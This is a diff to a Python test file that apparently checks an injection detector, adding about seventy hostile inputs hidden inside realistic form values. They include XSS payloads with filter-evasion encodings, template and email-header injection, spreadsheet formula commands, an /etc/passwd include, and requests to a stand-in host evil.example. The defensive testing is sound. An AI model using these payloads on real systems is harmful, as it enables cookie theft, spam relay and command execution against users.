@@ -642,6 +642,83 @@ ATTACKS: Final = {
     ],
 }
 
+IN_FIELDS: Final = [
+    "O'Brien<script>alert(1)</script>",
+    'Max Mustermann"><img src=x onerror=alert(1)>',
+    "12 High Street<svg onload=alert(1)>",
+    "support@example.org<script>alert(1)</script>",
+    '"<script>alert(1)</script>"@example.org',
+    "+49 30 1234'><script>alert(1)</script>",
+    "Please call me back. <img src=x onerror=alert(document.cookie)> Regards, Bob",
+    "Order 4711 <iframe src=javascript:alert(1)>",
+    "Rechnung Nr. 5 <body onload=alert(1)>",
+    'https://example.org/"onmouseover="alert(1)',
+    "https://example.org/?x=<script>alert(1)</script>",
+    "javascript:alert(document.domain)//example.org",
+    "https://example.org' onclick='alert(1)",
+    'de-DE"><script>alert(1)</script>',
+    '2026-01-01"><svg/onload=alert(1)>',
+    '10.50" onfocus="alert(1)" autofocus="',
+    '#fff;"><script>alert(1)</script>',
+    "red;background:url(javascript:alert(1))",
+    'red" onmouseover="alert(1)',
+    "**bold** <img src=x onerror=alert(1)>",
+    "[click](javascript:alert(1))",
+    "[click](JaVaScRiPt:alert(1))",
+    '![a](x"onerror="alert(1))',
+    "<details open ontoggle=alert(1)>more</details>",
+    "> quote\n<script>alert(1)</script>",
+    "- item\n- <img src=x onerror=alert(1)>",
+    "Hello\n\n<svg onload=alert(1)>\n\nBye",
+    '{"name":"<img src=x onerror=alert(1)>"}',
+    '<p>Hi</p><p onmouseover="alert(1)">x</p>',
+    '<a href="https://example.org" onclick="alert(1)">x</a>',
+    '<a href="javascript&#0000058alert(1)">x</a>',
+    '<img src="https://example.org/a.png" onload="fetch(\'//evil.example\')">',
+    "<p style=\"background:url('javascript:alert(1)')\">x</p>",
+    "Dear {{7*7}},",
+    "Hello ${7*7}",
+    "Kind regards, {{config}}",
+    "Name: #{7*7}",
+    "{{constructor.constructor('return document.cookie')()}}",
+    "Invoice <%= 7*7 %>",
+    "{% raw %}{{7*7}}{% endraw %}",
+    "${T(java.lang.System).getenv()} GmbH",
+    "Subject\r\nBcc: all@evil.example",
+    "bob@example.org\r\nCc: a@evil.example\r\n\r\nBuy now",
+    "bob@example.org%0d%0aBcc:a@evil.example",
+    "bob@example.org\\r\\nBcc: a@evil.example",
+    "=cmd|'/c calc'!A1",
+    "@SUM(cmd|'/c calc'!A1)",
+    "=1+1;=cmd|'/c calc'!A1",
+    '<!--#include file="/etc/passwd"-->Bob',
+    '" accesskey=x onclick=alert(1) "',
+    "' style=animation-name:x onanimationstart=alert(1) '",
+    'x" onpointermove=alert`1` y="',
+    '"><a href=javascript:alert(1)>click',
+    '"><input onfocus=alert(1) autofocus>',
+    '"><form action=//evil.example><input name=p>',
+    "</select><script>alert(1)</script>",
+    "</option></select><img src=x onerror=alert(1)>",
+    "</style><img src=x onerror=alert(1)>",
+    "</noscript><svg onload=alert(1)>",
+    '"/><svg/onload=alert(1)>',
+    "%22%3E%3Csvg%20onload%3Dalert(1)%3E",
+    '\\"><svg onload=alert(1)>',
+    "&quot;&gt;&lt;svg onload=alert(1)&gt;",
+    "\\u0022\\u003e\\u003csvg onload=alert(1)\\u003e",
+    "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
+    "ʺ><svg onload=alert(1)>",
+    "＂ onfocus＝alert(1) autofocus ",
+    "'%00><svg onload=alert(1)>",
+    "<svg%0conload=alert(1)>",
+    "<svg\xa0onload=alert(1)>",
+    "<svg onload\u200b=alert(1)>",
+    "<ſcript>alert(1)</ſcript>",
+    "<ımg src=x onerror=alert(1)>",
+]
+"""In the middle of what people write into a field of a profile, a ticket or an order."""
+
 QUOTED: Final = [
     "Please look at `<script>alert(1)</script>`, our scanner found it",
     "Our docs say `{{ 7 * 7 }}` is rendered as 49, is that right?",
@@ -653,6 +730,12 @@ QUOTED: Final = [
     ("position", "text"), [(position, text) for position, texts in ATTACKS.items() for text in texts]
 )
 def test_an_attack_reaches_the_threshold(position: Position, text: str) -> None:
+    assert score(position, text) >= 5
+
+
+@pytest.mark.parametrize("text", IN_FIELDS)
+@pytest.mark.parametrize("position", [Position.FORM, Position.JSON, Position.QUERY])
+def test_an_attack_within_an_honest_value_reaches_the_threshold(position: Position, text: str) -> None:
     assert score(position, text) >= 5
 
 
